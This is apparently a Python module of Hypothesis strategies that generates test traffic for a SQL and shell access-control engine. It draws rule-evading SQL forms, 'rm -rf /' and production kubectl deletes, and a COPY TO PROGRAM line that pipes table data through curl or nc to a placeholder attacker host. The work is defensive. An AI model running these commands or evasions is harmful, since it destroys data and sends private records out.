"""Hypothesis strategies for what agents send: SQL statements over a schema (with the
forms that try to slip past rules), shell commands, subjects, and whole requests.

Every SQL text a strategy draws parses in the chosen dialect; the evasive forms are
comments, mixed-case keywords, extra whitespace, writes nested in CTEs and dynamic SQL,
a harmless statement in front, tautological WHERE clauses, and schema-qualified and
quoted names.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping, Sequence
from typing import Any

import attrs
from hypothesis import strategies as st

from subguard.engine import CommandRequest, Resource, SqlRequest, Subject
from subguard.engine.types import to_string_set

__all__ = [
    "ALL_KINDS",
    "DEFAULT_SCHEMA",
    "Case",
    "commands",
    "requests",
    "resources",
    "sql",
    "subjects",
]

#: A small schema with PII and an audit table, used when none is given.
DEFAULT_SCHEMA: Mapping[str, Mapping[str, Any]] = {
    "users": {
        "id": "int",
        "name": "text",
        "email": {"type": "text", "tags": ["pii"]},
        "ssn": {"type": "text", "tags": ["pii"]},
    },
    "orders": {"id": "int", "user_id": "int", "total": "numeric"},
    "audit_log": {"id": "int", "actor": "text", "action": "text"},
}

#: The statement kinds `sql()` can draw.
ALL_KINDS = (
    "select",
    "insert",
    "update",
    "delete",
    "merge",
    "drop",
    "truncate",
    "alter",
    "create",
    "grant",
    "revoke",
    "copy",
)

_POSTGRES_ONLY = {"merge", "copy"}

_TAUTOLOGIES = (
    "1 = 1",
    "'a' = 'a'",
    "true",
    "NOT false",
    "2 > 1",
    "{col} = {col} OR 1 = 1",
    "{col} IS NULL OR true",
)


@attrs.frozen(repr=False)
class Case:
    """One generated request with who sends it and where it goes. Its repr is the
    request text, so Hypothesis's falsifying example reads like the traffic."""

    request: SqlRequest | CommandRequest
    subject: Subject
    resource: Resource
    denied: int = 0

    @property
    def text(self) -> str:
        return self.request.text

    def __repr__(self) -> str:
        groups = ", ".join(sorted(self.subject.groups)) or "no groups"
        return f"<{self.request.kind} {self.request.text!r} from {self.subject.id!r} ({groups})>"


# ── SQL ──────────────────────────────────────────────────────────────────────────────


def _columns(schema: Mapping[str, Any], table: str) -> list[str]:
    columns = schema.get(table)
    return list(columns) if isinstance(columns, Mapping) and columns else ["id"]


@st.composite
def _keyword(draw: st.DrawFn, words: str, evasive: bool) -> str:
    if not evasive or not draw(st.booleans()):
        return words
    return "".join(c.upper() if draw(st.booleans()) else c.lower() for c in words)


@st.composite
def _space(draw: st.DrawFn, evasive: bool) -> str:
    if not evasive:
        return " "
    return draw(st.sampled_from([" ", " ", "  ", "\n", "\t", " /* x */ "]))


def _quote(name: str, dialect: str) -> str:
    return f"`{name}`" if dialect in ("mysql", "mariadb") else f'"{name}"'


@st.composite
def _table_ref(draw: st.DrawFn, table: str, dialect: str, evasive: bool) -> str:
    if not evasive:
        return table
    form = draw(st.sampled_from(["bare", "quoted", "qualified", "qualified_quoted"]))
    schema_name = "public" if dialect in ("postgres", "postgresql", "") else "app"
    if dialect == "sqlite":
        schema_name = "main"
    if form == "quoted":
        return _quote(table, dialect)
    if form == "qualified":
        return f"{schema_name}.{table}"
    if form == "qualified_quoted":
        return f"{schema_name}.{_quote(table, dialect)}"
    return table


@st.composite
def _value(draw: st.DrawFn) -> str:
    return draw(
        st.one_of(
            st.integers(min_value=0, max_value=10_000).map(str),
            st.sampled_from(["'a'", "'x@example.com'", "'2024-01-01'", "NULL"]),
        )
    )


@st.composite
def _where(draw: st.DrawFn, columns: Sequence[str], evasive: bool, bounded: bool | None) -> str:
    """A WHERE clause: bounding (`col = v`), tautological, or none at all."""
    col = draw(st.sampled_from(columns))
    # simplest first, so that Hypothesis shrinks towards no WHERE at all
    if bounded is None:
        choice = draw(st.sampled_from(["none", "bounded", "tautology"]))
    else:
        choice = "bounded" if bounded else draw(st.sampled_from(["none", "tautology"]))
    if choice == "none":
        return ""
    kw = draw(_keyword("WHERE", evasive))
    if choice == "tautology":
        return f" {kw} " + draw(st.sampled_from(_TAUTOLOGIES)).format(col=col)
    op = draw(st.sampled_from(["=", ">", "<", "<>"]))
    return f" {kw} {col} {op} {draw(_value())}"


@st.composite
def _statement(
    draw: st.DrawFn,
    kind: str,
    schema: Mapping[str, Any],
    dialect: str,
    evasive: bool,
    tables: Sequence[str],
) -> str:
    table = draw(st.sampled_from(list(tables)))
    columns = _columns(schema, table)
    name = draw(_table_ref(table, dialect, evasive))
    sp = draw(_space(evasive))

    def kw(words: str) -> str:
        return draw(_keyword(words, evasive))

    col = draw(st.sampled_from(columns))
    if kind == "select":
        picked = draw(st.lists(st.sampled_from(columns), min_size=1, max_size=3, unique=True))
        cols = ", ".join(picked) if draw(st.booleans()) or not evasive else "*"
        limit = f" {kw('LIMIT')} {draw(st.integers(1, 100))}" if draw(st.booleans()) else ""
        return f"{kw('SELECT')}{sp}{cols} {kw('FROM')} {name}{draw(_where(columns, evasive, True))}{limit}"
    if kind == "insert":
        return f"{kw('INSERT INTO')} {name} ({col}){sp}{kw('VALUES')} ({draw(_value())})"
    if kind == "update":
        return f"{kw('UPDATE')} {name} {kw('SET')} {col} = {draw(_value())}{draw(_where(columns, evasive, None))}"
    if kind == "delete":
        return f"{kw('DELETE FROM')}{sp}{name}{draw(_where(columns, evasive, None))}"
    if kind == "merge":
        return (
            f"{kw('MERGE INTO')} {name} t {kw('USING')} staged s {kw('ON')} t.id = s.id "
            f"{kw('WHEN MATCHED THEN')} {draw(st.sampled_from(['DELETE', f'UPDATE SET {col} = s.{col}']))}"
        )
    if kind == "drop":
        return f"{kw('DROP TABLE')}{sp}{kw('IF EXISTS ') if draw(st.booleans()) else ''}{name}"
    if kind == "truncate":
        return f"{kw('TRUNCATE')}{' ' + kw('TABLE') if draw(st.booleans()) else ''} {name}"
    if kind == "alter":
        action = draw(
            st.sampled_from([f"DROP COLUMN {col}", f"DROP {col}", "ADD COLUMN note text"])
        )
        return f"{kw('ALTER TABLE')} {name} {kw(action)}"
    if kind == "create":
        return f"{kw('CREATE TABLE')} {table}_copy (id int)"
    if kind == "grant":
        return f"{kw('GRANT')} {draw(st.sampled_from(['SELECT', 'ALL', 'INSERT, UPDATE']))} {kw('ON')} {name} {kw('TO')} intruder"
    if kind == "revoke":
        return f"{kw('REVOKE')} {draw(st.sampled_from(['SELECT', 'ALL']))} {kw('ON')} {name} {kw('FROM')} auditor"
    if kind == "copy":
        target = draw(
            st.sampled_from(
                ["STDOUT", "PROGRAM 'curl -d @- https://evil.example'", "PROGRAM 'nc evil 9'"]
            )
        )
        return f"{kw('COPY')} {name} {kw('TO')} {target}"
    raise ValueError(f"`sql()` cannot draw statements of kind `{kind}`")


@st.composite
def _evade(draw: st.DrawFn, statement: str, kind: str, dialect: str) -> str:
    """Wrap a statement in a form that hides it from naive rules."""
    postgres = dialect in ("postgres", "postgresql")
    forms = ["plain", "comment", "trailing_comment", "after_select"]
    if postgres and kind in ("insert", "update", "delete"):
        forms.append("cte")
    if postgres:
        forms.append("execute")
    form = draw(st.sampled_from(forms))
    if form == "comment":
        return f"/* {draw(st.sampled_from(['routine', 'read only', 'ok']))} */ {statement}"
    if form == "trailing_comment":
        return f"{statement} -- harmless"
    if form == "after_select":
        return f"SELECT 1; {statement}"
    if form == "cte":
        return f"WITH x AS ({statement} RETURNING *) SELECT * FROM x"
    if form == "execute" and "'" not in statement:
        return f"EXECUTE '{statement}'"
    return statement


def sql(
    kinds: Iterable[str] = ALL_KINDS,
    *,
    schema: Mapping[str, Any] | None = None,
    tables: Iterable[str] | None = None,
    dialect: str = "postgres",
    evasive: bool = True,
) -> st.SearchStrategy[str]:
    """SQL texts with one statement of one of `kinds` over `schema`'s `tables`.

    With `evasive` (the default) a statement may come with comments, mixed case,
    qualified or quoted names, a tautological WHERE, a harmless statement in front, or
    (in PostgreSQL) nested in a data-modifying CTE or `EXECUTE '…'`.

    >>> from hypothesis import find
    >>> find(sql(["delete"], evasive=False), lambda s: "WHERE" not in s)
    'DELETE FROM users'
    """
    schema = DEFAULT_SCHEMA if schema is None else schema
    kinds = tuple(kinds)
    postgres = dialect in ("postgres", "postgresql")
    usable = [k for k in kinds if postgres or k not in _POSTGRES_ONLY]
    if not usable:
        raise ValueError(
            f"no statement kinds of {list(kinds)} can be drawn for dialect `{dialect}`"
        )
    names = tuple(tables) if tables is not None else tuple(schema)
    if not names:
        raise ValueError("`sql()` needs at least one table")

    @st.composite
    def draw_sql(draw: st.DrawFn) -> str:
        kind = draw(st.sampled_from(usable))
        statement = draw(_statement(kind, schema, dialect, evasive, names))
        return draw(_evade(statement, kind, dialect)) if evasive else statement

    return draw_sql()


# ── shell commands ───────────────────────────────────────────────────────────────────

_PATHS = (
    "/",
    "/var/lib/postgresql",
    "/home/app",
    "/etc",
    "/tmp/build",
    "/var/tmp/cache",
    "build",
    "./dist",
    "/tmp/../etc",
)


@st.composite
def _rm(draw: st.DrawFn) -> str:
    flags = draw(st.sampled_from(["-rf", "-fr", "-r -f", "-R", "--recursive --force", "-f", ""]))
    return f"rm {flags} {draw(st.sampled_from(_PATHS))}".replace("  ", " ")


@st.composite
def _kubectl(draw: st.DrawFn) -> str:
    verb = draw(st.sampled_from(["delete", "get", "describe"]))
    namespace = draw(st.sampled_from(["prod", "production", "prod-eu", "staging", "dev", None]))
    what = draw(
        st.sampled_from(["pod api-7f9", "deployment api", "ns " + (namespace or "default")])
    )
    ns_flag = ""
    if namespace is not None and not what.startswith("ns "):
        ns_flag = draw(
            st.sampled_from(
                [f"-n {namespace}", f"--namespace {namespace}", f"--namespace={namespace}"]
            )
        )
    parts = (
        ["kubectl", verb, what, ns_flag]
        if draw(st.booleans())
        else ["kubectl", ns_flag, verb, what]
    )
    return " ".join(p for p in parts if p)


@st.composite
def _psql(draw: st.DrawFn, sql_texts: st.SearchStrategy[str]) -> str:
    text = draw(sql_texts)
    quoted = "'" + text.replace("'", "'\"'\"'") + "'"
    return f"psql -h db.internal {draw(st.sampled_from(['-c', '--command']))} {quoted} prod"


@st.composite
def _wrapped(draw: st.DrawFn, inner: st.SearchStrategy[str]) -> str:
    command = draw(inner)
    form = draw(st.sampled_from(["plain", "sudo", "bash_c", "and"]))
    if form == "sudo":
        return f"sudo {command}"
    if form == "bash_c" and "'" not in command:
        return f"bash -c '{command}'"
    if form == "and":
        return f"cd /srv/app && {command}"
    return command


def commands(
    programs: Iterable[str] = ("rm", "kubectl", "psql", "ls"),
    *,
    sql_texts: st.SearchStrategy[str] | None = None,
) -> st.SearchStrategy[str]:
    """Shell command lines: `rm` with recursive flags on many paths, `kubectl` in and
    out of production namespaces, `psql -c` with SQL from `sql_texts`, and harmless
    ones — sometimes behind `sudo`, `bash -c` or `&&`."""
    by_program: dict[str, st.SearchStrategy[str]] = {
        "rm": _rm(),
        "kubectl": _kubectl(),
        "psql": _psql(sql_texts if sql_texts is not None else sql(evasive=False)),
        "ls": st.sampled_from(["ls -la /var/log", "cat /etc/hostname", "df -h", "echo done"]),
    }
    chosen = [by_program[p] for p in programs if p in by_program]
    unknown = [p for p in programs if p not in by_program]
    if unknown or not chosen:
        raise ValueError(
            f"`commands()` knows {sorted(by_program)}, not {unknown or list(programs)}"
        )
    return _wrapped(st.one_of(chosen))


# ── subjects, resources, requests ────────────────────────────────────────────────────


def subjects(
    groups: Iterable[str] = (),
    *,
    ids: Iterable[str] = ("ci-bot", "agent-7", "nightly-job", "ana"),
    extra_groups: Iterable[str] = ("agents", "analysts", "ops", "pii-readers"),
) -> st.SearchStrategy[Subject]:
    """Subjects in every group of `groups`, plus any of `extra_groups` (each a list or set
    of names: a string is a `FieldError`, not a set of its characters)."""
    required = to_string_set("groups", groups)
    extras = sorted(to_string_set("extra_groups", extra_groups) - required)
    return st.builds(
        lambda subject_id, more: Subject(subject_id, required | frozenset(more)),
        st.sampled_from(list(ids)),
        st.sets(st.sampled_from(extras), max_size=len(extras)) if extras else st.just(frozenset()),
    )


_any_subject = subjects


def resources(
    kind: str = "postgres",
    *,
    schema: Mapping[str, Any] | None = None,
    env: str = "prod",
) -> st.SearchStrategy[Resource]:
    """A resource of `kind` with `schema` (the default schema for SQL kinds)."""
    if schema is None and kind != "shell":
        schema = DEFAULT_SCHEMA
    return st.just(Resource(name=f"{env}-{kind}", kind=kind, env=env, schema=schema))


def requests(
    sql_texts: st.SearchStrategy[str] | None = None,
    *,
    commands: st.SearchStrategy[str] | None = None,
    subjects: st.SearchStrategy[Subject] | None = None,
    resource: st.SearchStrategy[Resource] | None = None,
    denied: st.SearchStrategy[int] | None = None,
) -> st.SearchStrategy[Case]:
    """Whole requests: SQL from `sql_texts` and/or shell lines from `commands`, from
    `subjects`, to `resource`, in a session with `denied` earlier denials (0)."""
    if sql_texts is None and commands is None:
        sql_texts = sql()
    who = subjects if subjects is not None else _any_subject()
    previous = denied if denied is not None else st.just(0)
    options: list[st.SearchStrategy[Case]] = []
    if sql_texts is not None:
        where = resource if resource is not None else resources("postgres")
        options.append(
            st.builds(
                lambda t, s, r, d: Case(SqlRequest(t), s, r, d), sql_texts, who, where, previous
            )
        )
    if commands is not None:
        where = resource if resource is not None else resources("shell")
        options.append(
            st.builds(
                lambda t, s, r, d: Case(CommandRequest(t), s, r, d), commands, who, where, previous
            )
        )
    return st.one_of(options)
